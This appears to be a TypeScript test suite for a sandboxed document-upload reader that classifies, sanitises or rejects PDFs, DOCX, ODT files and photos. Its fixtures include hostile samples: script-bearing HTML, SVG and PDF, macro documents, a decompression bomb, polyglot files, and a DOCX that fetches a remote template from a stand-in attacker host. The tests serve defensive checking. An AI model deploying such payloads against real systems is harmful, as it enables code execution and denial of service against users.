/** Real files, read by the real process. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8 } from 'fflate';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  bomb,
  docx,
  encryptedPdf,
  odt,
  pdf,
  photo,
  SCRIPTED_SVG,
  scriptedPdf,
} from '../../../../tests/support/files.ts';
import { KINDS, type KnownType, recognise } from '../recognise.ts';
import { FileReading } from './reading.ts';

const CHILD = join(import.meta.dirname, 'child.ts');
/** A slow machine is not a fault of the files. */
const PATIENT = { milliseconds: 600_000, memory: Number.MAX_SAFE_INTEGER };
const reading = new FileReading(CHILD, { examine: PATIENT, read: PATIENT });
let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'terreau-reading-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function on(bytes: Buffer | Promise<Buffer>): Promise<string> {
  const path = join(folder, `file-${Math.floor(performance.now() * 1000)}`);
  await writeFile(path, await bytes);
  return path;
}
const known = (type: string): type is KnownType => Object.hasOwn(KINDS, type);
/** What would come of sending this file. */
async function sent(bytes: Buffer | Promise<Buffer>): Promise<string> {
  const path = await on(bytes);
  const type = await recognise(path);
  if (!known(type)) return type;
  const examined = await reading.examine(KINDS[type], path, `${path}.webp`);
  return examined.ok ? `${type} kept` : examined.reason;
}

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
describe('what is sent', () => {
  test.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a PDF', () => pdf(['Bonjour']), 'application/pdf kept'],
    ['a DOCX', () => docx('Bonjour'), `${word} kept`],
    ['an ODT', () => odt('Bonjour'), 'application/vnd.oasis.opendocument.text kept'],
    ['a photograph', () => photo(), 'image/jpeg kept'],
    ['nothing', () => Buffer.alloc(0), 'empty'],
    ['a program', () => Buffer.from('\u007fELF\u0002\u0001', 'latin1'), 'unknown'],
    ['a page with a script', () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'unknown'],
    ['an SVG with a script', () => SCRIPTED_SVG, 'drawing'],
    [
      'an SVG behind a byte-order mark',
      () => Buffer.concat([Buffer.from('\ufeff'), SCRIPTED_SVG]),
      'drawing',
    ],
    ['a PDF under a password', encryptedPdf, 'encrypted'],
    ['a PDF cut short', () => pdf(['Bonjour']).subarray(0, 40), 'broken'],
    ['a PDF of noise', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 7)]), 'broken'],
    ['a PDF with a script', scriptedPdf, 'active'],
    ['a PDF that is an archive too', () => Buffer.concat([pdf(['a']), docx('b')]), 'two_in_one'],
    [
      'a page that is a PDF too',
      () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf(['a'])]),
      'unknown',
    ],
    ['a DOCX with macros', () => docx('a', { 'word/vbaProject.bin': strToU8('x') }), 'active'],
    [
      'a DOCX that fetches its template',
      () =>
        docx('a', {
          'word/_rels/settings.xml.rels': strToU8(
            '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
          ),
        }),
      'active',
    ],
    ['an ODT with macros', () => odt('a', { 'Basic/Standard/Module1.xml': strToU8('x') }), 'active'],
    [
      'an ODT under a password',
      () => odt('a', { 'META-INF/manifest.xml': strToU8('<manifest:encryption-data/>') }),
      'encrypted',
    ],
    ['a DOCX that unfolds without end', bomb, 'bomb'],
    ['a DOCX cut short', () => docx('Bonjour '.repeat(2000)).subarray(0, 700), 'broken'],
    ['a photograph cut short', async () => (await photo(2000, 2000)).subarray(0, 3000), 'broken'],
  ])('%s', async (_, make, told) => {
    expect(await sent(make())).toBe(told);
  });
});

describe('a picture', () => {
  test('is made anew: upright, smaller, and it no longer says where it was taken, nor holds anything else', async () => {
    const hidden = Buffer.from('<script>alert(1)</script>');
    const path = await on(Buffer.concat([await photo(4000, 2500), hidden]));
    expect((await sharp(path).metadata()).exif).toBeDefined();
    const examined = await reading.examine('image', path, `${path}.webp`);
    expect(examined).toMatchObject({ ok: true, value: { picture: { width: 1000, height: 1600 } } });
    const made = await readFile(`${path}.webp`);
    const told = await sharp(made).metadata();
    expect([told.format, told.exif, told.xmp, told.iptc, told.orientation]).toEqual([
      'webp',
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect([made.includes(hidden), made.includes('Appareil')]).toEqual([false, false]);
  });
});

describe('the text', () => {
  test.each<[string, () => Buffer, 'pdf' | 'docx' | 'odt', string[]]>([
    [
      'of a PDF, page by page',
      () => pdf(['Le broyeur est en panne', 'Page deux']),
      'pdf',
      ['Le broyeur est en panne', 'Page deux'],
    ],
    ['of a DOCX', () => docx('Le broyeur\nest en panne'), 'docx', ['Le broyeur\n\nest en panne']],
    ['of an ODT', () => odt('L&apos;été &amp; la &#233;tape\nfin'), 'odt', ["L'été & la étape\nfin"]],
    ['of a PDF without any', () => pdf(['']), 'pdf', ['']],
  ])('%s', async (_, make, kind, pages) => {
    const read = await reading.read(kind, await on(make()));
    expect(read.ok && read.value.pages.map((page) => page.trim())).toEqual(pages);
  });

  test('is cut where search stops, and it is told', async () => {
    const read = await reading.read('odt', await on(odt('mot '.repeat(150_000))));
    expect(read).toMatchObject({ ok: true, value: { cut: true } });
  });
});

describe('the process is ended', () => {
  test('when it takes too long', async () => {
    const hurried = new FileReading(CHILD, { examine: { milliseconds: 1, memory: Number.MAX_SAFE_INTEGER } });
    expect(await hurried.examine('pdf', await on(pdf(['a'])), '')).toEqual({
      ok: false,
      reason: 'too_heavy',
    });
  });
  test.runIf(process.platform === 'linux')('when it holds too much', async () => {
    const narrow = new FileReading(CHILD, { examine: { milliseconds: 60_000, memory: 1024 } });
    expect(await narrow.examine('pdf', await on(pdf(['a'])), '')).toEqual({ ok: false, reason: 'too_heavy' });
  });
  test('and the next file is read all the same', async () => {
    expect(await sent(pdf(['a']))).toBe('application/pdf kept');
  });
});
